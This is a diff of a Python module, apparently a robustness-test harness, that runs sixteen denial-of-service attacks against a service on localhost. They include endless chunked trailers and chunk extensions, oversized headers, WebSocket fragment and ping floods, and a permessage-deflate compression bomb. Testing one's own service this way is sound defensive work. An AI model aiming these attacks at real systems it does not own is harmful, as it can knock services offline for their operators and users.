@@ -1,16 +1,20 @@
-"""Attacks on connections: what is sent on a socket before, and beside, any question."""
+"""Attacks on connections: bytes around a question, not the question itself.
+
+Each attack keeps 12 connections busy, and opens one again a quarter of a second after the service has closed it. A flood
+of connections or of whole requests is not among them: it takes a limit of the rate in front of the service.
+"""
 
 import asyncio
-import base64
 import contextlib
 import itertools
+import json
 import zlib
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
 
 NUM_CONNECTIONS = 12
-PIECE = 65_536
-
-Pieces = Callable[[], Iterator[bytes]]
+REOPEN_S = 0.25
+HEADS_PER_S = 25
+PIECE_BYTES = 65_536
 
 
 def head(method: str, path: str, key: str | None, *headers: str) -> bytes:
@@ -21,18 +25,21 @@ def head(method: str, path: str, key: str | None, *headers: str) -> bytes:
     return "\r\n".join([*lines, "", ""]).encode()
 
 
-def upgrade(key: str | None, *headers: str) -> bytes:
+def chunk(data: bytes) -> bytes:
+    """Return one chunk of a chunked body."""
+    return b"%x\r\n%s\r\n" % (len(data), data)
+
+
+def stream(key: str | None) -> bytes:
+    """Return the head and the first line of a stream."""
+    line = b'{"type": "open", "query": "What is the capital of France?"}\n'
+    return head("POST", "/v1/streams", key, "transfer-encoding: chunked") + chunk(line)
+
+
+def socket(key: str | None, *headers: str) -> bytes:
     """Return the head of a request for a WebSocket."""
-    return head(
-        "GET",
-        "/v1/responses",
-        key,
-        "connection: upgrade",
-        "upgrade: websocket",
-        "sec-websocket-version: 13",
-        "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==",
-        *headers,
-    )
+    fields = ["connection: upgrade", "upgrade: websocket", "sec-websocket-version: 13"]
+    return head("GET", "/v1/responses", key, *fields, "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==", *headers)
 
 
 def frame(opcode: int, payload: bytes = b"", *, is_last: bool = True, is_compressed: bool = False) -> bytes:
@@ -47,9 +54,15 @@ def frame(opcode: int, payload: bytes = b"", *, is_last: bool = True, is_compres
     return bytes([first]) + length + bytes(4) + payload
 
 
+TEXT, PING = 1, 9
+
+
+# ---------------------------------------------------------------------------------------------------------- connections
+
+
 @contextlib.asynccontextmanager
 async def connected(port: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
-    """A connection whose answers are read and dropped."""
+    """A connection to the service, which is reset at the end."""
     reader, writer = await asyncio.open_connection("127.0.0.1", port)
     try:
         yield reader, writer
@@ -60,94 +73,194 @@ async def connected(port: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyn
 async def drop(reader: asyncio.StreamReader) -> None:
     """Read until the service closes the connection."""
     with contextlib.suppress(ConnectionError):
-        while await reader.read(PIECE):
+        while await reader.read(PIECE_BYTES):
             pass
 
 
-async def send(port: int, first: bytes, pieces: Iterator[bytes]) -> int:
-    """Send `first` and then `pieces` on one connection until it is closed; return the number of bytes."""
-    num_bytes = 0
+async def flood(port: int, first: bytes, pieces: Iterator[bytes], *, reads: bool, sent: list[int]) -> None:
+    """Send `first`, wait for the head of the answer, then send `pieces` until the service closes the connection."""
     async with connected(port) as (reader, writer):
-        reading = asyncio.create_task(drop(reader))
+        writer.write(first)
+        sent[1] += len(first)
+        await reader.readuntil(b"\r\n\r\n")
+        reading = asyncio.create_task(drop(reader) if reads else asyncio.sleep(3600))
         try:
-            for piece in itertools.chain([first], pieces):
+            for piece in pieces:
                 writer.write(piece)
-                num_bytes += len(piece)
+                sent[1] += len(piece)
                 await writer.drain()
                 if reading.done():
-                    break
+                    return
+            await reading
         finally:
             reading.cancel()
-    return num_bytes
 
 
-async def on_connections(
-    port: int, seconds: float, first: bytes, pieces: Pieces, num_connections: int = NUM_CONNECTIONS
+async def flood_all(
+    port: int, seconds: float, first: bytes, pieces: Callable[[], Iterator[bytes]], *, reads: bool = True
 ) -> str:
-    """Send on several connections; whichever the service closes is opened again."""
-    totals = [0, 0]
+    """Run `flood` on 12 connections, and open each again when it has ended."""
+    sent = [0, 0]
 
     async def again_and_again() -> None:
         while True:
-            with contextlib.suppress(OSError):
-                totals[0] += 1
-                totals[1] += await send(port, first, pieces())
-            await asyncio.sleep(0)
+            sent[0] += 1
+            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+                await flood(port, first, pieces(), reads=reads, sent=sent)
+            await asyncio.sleep(REOPEN_S)
 
     with contextlib.suppress(TimeoutError):
         async with asyncio.timeout(seconds):
-            await asyncio.gather(*(again_and_again() for _ in range(num_connections)))
-    return f"{totals[0]} connections, {totals[1] / 1e6:.0f} MB on those that were closed"
+            await asyncio.gather(*(again_and_again() for _ in range(NUM_CONNECTIONS)))
+    return f"{sent[0]} connections, {sent[1] / 1e6:.0f} MB"
 
 
-OPEN_LINE = b'{"type": "open", "query": "What?"}\n'
-
-
-def chunk(data: bytes) -> bytes:
-    """Return one chunk of a chunked body."""
-    return b"%x\r\n%s\r\n" % (len(data), data)
-
-
-def stream(key: str | None) -> bytes:
-    """Return the head and the first line of a stream."""
-    return head("POST", "/v1/streams", key, "transfer-encoding: chunked") + chunk(OPEN_LINE)
-
-
-async def trailers(port: int, key: str | None, seconds: float) -> str:
-    """Trailers without end, behind the body of a stream."""
-    line = b"x-trailer: " + b"y" * 50 + b"\r\n"
-    return await on_connections(
-        port, seconds, stream(key) + b"0\r\n", lambda: itertools.repeat(line * (PIECE // len(line)))
-    )
-
-
-async def endless_trailer(port: int, key: str | None, seconds: float) -> str:
-    """One trailer without end."""
-    return await on_connections(port, seconds, stream(key) + b"0\r\nx: ", lambda: itertools.repeat(b"y" * PIECE))
-
-
-async def long_heads(port: int, key: str | None, seconds: float) -> str:
-    """Heads of 240 KiB in one piece, 25 a second, without a key."""
-    whole = head("POST", "/v1/ask", None, *("a:" for _ in range(60_000)))[: 240 << 10] + b"\r\n\r\n"
-    return await every(port, seconds, 0.04, whole)
-
-
-async def every(port: int, seconds: float, pause_s: float, data: bytes) -> str:
-    """Send `data` on a new connection every `pause_s`."""
-    tasks: list[asyncio.Task[int]] = []
+async def send_heads(port: int, seconds: float, data: bytes) -> str:
+    """Send `data` on a new connection 25 times a second."""
     loop = asyncio.get_running_loop()
     end_s = loop.time() + seconds
+
+    async def send() -> None:
+        async with connected(port) as (reader, writer):
+            writer.write(data)
+            await drop(reader)
+
+    tasks = []
     while loop.time() < end_s:
-        tasks.append(asyncio.create_task(send(port, data, iter(()))))
-        await asyncio.sleep(pause_s)
+        tasks.append(asyncio.create_task(send()))
+        await asyncio.sleep(1 / HEADS_PER_S)
     for task in tasks:
         task.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
     return f"{len(tasks)} connections, {len(tasks) * len(data) / 1e6:.0f} MB"
 
 
+# ------------------------------------------------------------------------------------------------------------- attacks
+
+
+def repeated(data: bytes) -> bytes:
+    """Return `data` as often as it fits in a piece, once at least."""
+    return data * max(PIECE_BYTES // len(data), 1)
+
+
+async def trailers(port: int, key: str | None, seconds: float) -> str:
+    """Send trailers without end behind the body of a stream."""
+    piece = repeated(b"x-trailer: " + b"y" * 50 + b"\r\n")
+    return await flood_all(port, seconds, stream(key), lambda: itertools.chain([b"0\r\n"], itertools.repeat(piece)))
+
+
+async def one_trailer(port: int, key: str | None, seconds: float) -> str:
+    """Send one trailer without end."""
+    return await flood_all(
+        port, seconds, stream(key), lambda: itertools.chain([b"0\r\nx: "], itertools.repeat(b"y" * PIECE_BYTES))
+    )
+
+
+async def short_trailers(port: int, key: str | None, seconds: float) -> str:
+    """Send as many short trailers as a head may have, and end them."""
+    return await flood_all(port, seconds, stream(key), lambda: iter([b"0\r\n" + b"a:\r\n" * 4000 + b"\r\n"]))
+
+
+async def chunk_extension(port: int, key: str | None, seconds: float) -> str:
+    """Send an extension of a chunk without end."""
+    return await flood_all(
+        port, seconds, stream(key), lambda: itertools.chain([b"1;x="], itertools.repeat(b"y" * PIECE_BYTES))
+    )
+
+
+async def tiny_chunks(port: int, key: str | None, seconds: float) -> str:
+    """Send a stream's blank lines in chunks of one byte."""
+    return await flood_all(port, seconds, stream(key), lambda: itertools.repeat(repeated(chunk(b"\n"))))
+
+
+async def blank_lines(port: int, key: str | None, seconds: float) -> str:
+    """Send blank lines on a stream."""
+    return await flood_all(port, seconds, stream(key), lambda: itertools.repeat(chunk(b"\n" * PIECE_BYTES)))
+
+
+async def tiny_lines(port: int, key: str | None, seconds: float) -> str:
+    """Send the shortest lines that a stream can have."""
+    line = json.dumps({"type": "skipped", "uri": "", "reason": ""}, separators=(",", ":")).encode() + b"\n"
+    return await flood_all(port, seconds, stream(key), lambda: itertools.repeat(chunk(repeated(line))))
+
+
+async def long_heads(port: int, key: str | None, seconds: float) -> str:
+    """Send heads of 240 KiB in one piece, without a key."""
+    return await send_heads(port, seconds, head("POST", "/v1/ask", None, *["a:"] * 61_440))
+
+
+async def short_headers(port: int, key: str | None, seconds: float) -> str:
+    """Send heads of short lines, as long as a head may be, without a key."""
+    return await send_heads(port, seconds, head("POST", "/v1/ask", None, *["a:"] * 4000))
+
+
+async def empty_fragments(port: int, key: str | None, seconds: float) -> str:
+    """Send empty fragments of one message."""
+    piece = repeated(frame(0, is_last=False))
+    return await flood_all(
+        port, seconds, socket(key), lambda: itertools.chain([frame(TEXT, is_last=False)], itertools.repeat(piece))
+    )
+
+
+async def tiny_fragments(port: int, key: str | None, seconds: float) -> str:
+    """Send fragments of one byte."""
+    piece = repeated(frame(0, b"a", is_last=False))
+    return await flood_all(
+        port, seconds, socket(key), lambda: itertools.chain([frame(TEXT, is_last=False)], itertools.repeat(piece))
+    )
+
+
+async def large_fragments(port: int, key: str | None, seconds: float) -> str:
+    """Send large fragments of one message."""
+    piece = frame(0, b"a" * 60_000, is_last=False)
+    return await flood_all(
+        port, seconds, socket(key), lambda: itertools.chain([frame(TEXT, is_last=False)], itertools.repeat(piece))
+    )
+
+
+async def pings(port: int, key: str | None, seconds: float) -> str:
+    """Send pings, and read what comes back."""
+    return await flood_all(port, seconds, socket(key), lambda: itertools.repeat(repeated(frame(PING))))
+
+
+async def unread_pings(port: int, key: str | None, seconds: float) -> str:
+    """Send pings, and read nothing."""
+    piece = repeated(frame(PING, b"a" * 125))
+    return await flood_all(port, seconds, socket(key), lambda: itertools.repeat(piece), reads=False)
+
+
+async def empty_messages(port: int, key: str | None, seconds: float) -> str:
+    """Send messages of no bytes."""
+    return await flood_all(port, seconds, socket(key), lambda: itertools.repeat(repeated(frame(TEXT))))
+
+
+async def compressed_messages(port: int, key: str | None, seconds: float) -> str:
+    """Send messages that inflate a thousandfold."""
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    data = (deflate.compress(b"a" * 1_900_000) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]
+    piece = repeated(frame(TEXT, data, is_compressed=True))
+    first = socket(key, "sec-websocket-extensions: permessage-deflate")
+    return await flood_all(port, seconds, first, lambda: itertools.repeat(piece))
+
+
 ATTACKS: dict[str, Callable[[int, str | None, float], Awaitable[str]]] = {
-    "trailers": trailers,
-    "endless_trailer": endless_trailer,
-    "long_heads": long_heads,
+    attack.__name__: attack
+    for attack in (
+        trailers,
+        one_trailer,
+        short_trailers,
+        chunk_extension,
+        tiny_chunks,
+        blank_lines,
+        tiny_lines,
+        long_heads,
+        short_headers,
+        empty_fragments,
+        tiny_fragments,
+        large_fragments,
+        pings,
+        unread_pings,
+        empty_messages,
+        compressed_messages,
+    )
 }
